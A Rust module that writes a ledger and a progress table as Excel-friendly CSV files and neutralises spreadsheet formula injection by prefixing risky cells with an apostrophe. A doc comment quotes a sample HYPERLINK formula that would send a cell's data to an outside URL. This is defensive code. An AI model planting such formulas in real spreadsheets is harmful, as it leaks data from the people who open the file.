//! The 台账 and the 推进情况表 as CSV: UTF-8 with a byte-order mark so that Excel reads the Chinese
//! correctly, fields quoted by the `csv` crate where they hold commas, quotes or newlines,
//! and no cell that a spreadsheet would run as a formula ([`neutralised`]).

use std::borrow::Cow;

use super::progress_table::{ProgressRow, ProgressTable, PROGRESS_COLUMNS};
use super::rows::{Row, COLUMNS};

/// The UTF-8 byte-order mark Excel needs to recognise UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The header row and one record per row, CRLF line ends (what Excel writes).
pub fn ledger_csv(rows: &[Row]) -> Vec<u8> {
    csv_of(&COLUMNS, rows.iter().map(Row::cells))
}

/// The 推进情况表 as CSV: its columns, one record per task (the title, which a CSV has
/// no place for, is in the file name).
pub fn progress_csv(table: &ProgressTable) -> Vec<u8> {
    csv_of(&PROGRESS_COLUMNS, table.rows.iter().map(ProgressRow::cells))
}

fn csv_of<const N: usize>(
    columns: &[&str; N],
    records: impl Iterator<Item = [String; N]>,
) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(BOM.to_vec());
    // Writing into a Vec cannot fail, and every record has the same number of fields.
    writer
        .write_record(columns)
        .expect("writing to memory cannot fail");
    for cells in records {
        writer
            .write_record(cells.iter().map(|c| neutralised(c).into_owned()))
            .expect("writing to memory cannot fail");
    }
    writer.into_inner().expect("flushing to memory cannot fail")
}

/// Characters that make Excel, WPS or LibreOffice read a CSV cell as a formula (or
/// the start of one), after any leading spaces: `=`, `+`, `-`, `@`, and a tab or
/// carriage return at the very start (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];

/// A cell a spreadsheet would run as a formula, made plain text by a leading
/// apostrophe, as OWASP advises: a pasted document may hold
/// `=HYPERLINK("http://…?d="&A1, …)` as a task's text. Other cells are unchanged.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    let first = cell.trim_start_matches([' ', '\u{3000}']).chars().next();
    let risky =
        cell.starts_with(['\t', '\r']) || first.is_some_and(|c| FORMULA_STARTS.contains(&c));
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}
